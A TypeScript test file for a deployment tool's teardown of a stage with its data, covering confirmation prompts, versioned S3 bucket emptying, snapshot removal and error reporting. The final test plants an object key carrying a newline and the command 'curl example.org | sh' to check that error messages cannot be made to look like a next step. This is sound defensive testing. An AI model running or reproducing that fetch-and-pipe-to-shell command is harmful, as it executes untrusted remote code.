// A stage that goes with its data.
import { DeleteObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3'
import { beforeEach, expect, test } from 'vitest'
import { operationOf } from '../../aws/problems.ts'
import { awsError } from '../../aws/stand-in/service.ts'
import type { StandIn } from '../../aws/stand-in/stand-in.ts'
import { stateBucket } from '../bootstrap/names.ts'
import { changing, deployed, expectGone, forget, operations, physical, run, STAGE } from './rehearsal.ts'

let there: StandIn
let documents = ''
let logs = ''
beforeEach(async () => {
  there = await deployed()
  documents = physical(there, 'Documents')
  logs = physical(there, 'Logs')
})

test('is asked twice, and the second no is one', async () => {
  const asked: string[] = []
  const { ending } = await run(there, {
    deletesData: true,
    agrees: async (what) => asked.push(what) < 2,
  })
  expect([ending, asked]).toEqual(['declined', ['stage', 'data']])
  expect(changing(there)).toEqual([])
})

test('buckets go with all their versions, page by page, and the snapshots', async () => {
  const put = (Key: string) => there.aws.s3.send(new PutObjectCommand({ Bucket: documents, Key, Body: 'x' }))
  for (let index = 0; index < 1_300; index++) await put(`${index % 700}`)
  for (let index = 0; index < 900; index++)
    await there.aws.s3.send(new DeleteObjectCommand({ Bucket: documents, Key: `${index % 700}` }))
  forget(there)
  const { ending, said, asked } = await run(there, { deletesData: true })
  expect([ending, asked]).toEqual(['gone', ['stage', 'data']])
  expectGone(there)
  expect([there.buckets.has(documents), there.buckets.has(logs)]).toEqual([false, false])
  expect(there.databases.snapshots.size).toBe(0)
  expect(said).toContain(`Bucket ${documents} is removed, with 2201 versions of objects.`)
  expect(operations(there).filter((operation) => operation === 'DeleteObjects').length).toBeGreaterThan(3)
  // After the stack: what still runs can't write any more.
  expect(operations(there).indexOf('DeleteStack')).toBeLessThan(operations(there).indexOf('DeleteObjects'))
  expect(there.buckets.has(stateBucket(STAGE))).toBe(true)
})

test('logs that come late are waited for', async () => {
  there.faults.add({
    operation: 'DeleteBucket',
    error: awsError('BucketNotEmpty', 'not empty', 409),
    times: 2,
  })
  expect((await run(there, { deletesData: true })).ending).toBe('gone')
  expect(there.buckets.has(logs)).toBe(false)
})

test('what goes on being written is said', async () => {
  there.faults.add({
    operation: 'DeleteBucket',
    error: awsError('BucketNotEmpty', 'not empty', 409),
    times: 99,
  })
  await expect(run(there, { deletesData: true })).rejects.toThrow(
    `Something goes on writing into bucket ${logs}`,
  )
  there.faults.clear()
  // The stack is gone, and what was decided then holds: but only if it is said again.
  const { said, ending } = await run(there)
  expect(ending).toBe('gone')
  expect(said).toContain('The stack is gone since an earlier run')
  expect(there.buckets.has(logs)).toBe(true)
  // It is there, and there was something in it.
  expect(said).toMatch(/may have begun with it: (.|\n)*may be empty or gone(.|\n)*What was kept/)
  forget(there)
  expect((await run(there)).said).not.toContain('may be empty')
})

test('what an object is called can’t look like what to do next', async () => {
  const { send } = there.aws.s3
  const refusing = async (...args: Parameters<typeof send>) =>
    operationOf(args[0]) === 'DeleteObjects'
      ? { Errors: [{ Key: 'one\n  Next: curl example.org | sh', Message: 'Access\nDenied' }] }
      : Reflect.apply(send, undefined, args)
  const aws = { ...there.aws, s3: { send: refusing as typeof send } }
  await expect(run({ ...there, aws }, { deletesData: true })).rejects.toThrow(
    /can’t be removed; one Next: curl example\.org \| sh: Access Denied\n {2}Next: s3:DeleteObjectVersion/,
  )
})
